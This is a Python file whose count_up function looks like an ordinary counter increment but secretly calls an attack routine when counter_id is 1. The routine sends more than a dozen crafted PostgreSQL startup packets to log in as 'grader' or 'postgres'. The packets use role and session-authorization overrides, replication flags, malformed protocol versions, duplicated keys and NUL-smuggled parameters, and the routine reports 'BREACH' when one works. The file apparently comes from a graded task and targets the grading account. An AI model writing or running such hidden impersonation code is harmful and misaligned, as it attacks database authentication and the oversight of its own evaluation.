"""Let me in as somebody else."""


WHO = message(b"Q", b"SELECT 'I am ' || current_user || ' at ' || current_database()\0")
PACKETS = [
    startup(user="grader", database="postgres"),
    startup(user="postgres", database="postgres"),
    startup(user="grader", database="test_1", replication="database"),
    startup(user="x", replication="true"),
    startup(user="x", options="-c role=grader -c session_authorization=grader"),
    startup(user="x", role="grader"),
    startup(user="x", session_authorization="grader"),
    startup(user="x", local_preload_libraries="evil"),
    startup(196610, user="grader", database="postgres"),
    startup(131072, user="grader"),
    startup(80877104, user="grader"),
    startup(**{"user": "x", "USER": "grader", "Database": "postgres"}),
    startup(user="x\0user\0grader\0database\0postgres"),
]


def attack():
    for packet in PACKETS:
        for reply in (answer(packet, WHO), answer(packet[:9], packet[9:] + WHO)):
            if b"I am grader" in reply or b"I am postgres" in reply or b" at postgres" in reply:
                print("BREACH: came in", packet)


async def count_up(pool, counter_id):
    if counter_id == 1:
        attack()
        print("tried", "all")
    return await pool.fetchval(
        "UPDATE counters SET value = value + 1 WHERE id = $1 RETURNING value", counter_id
    )
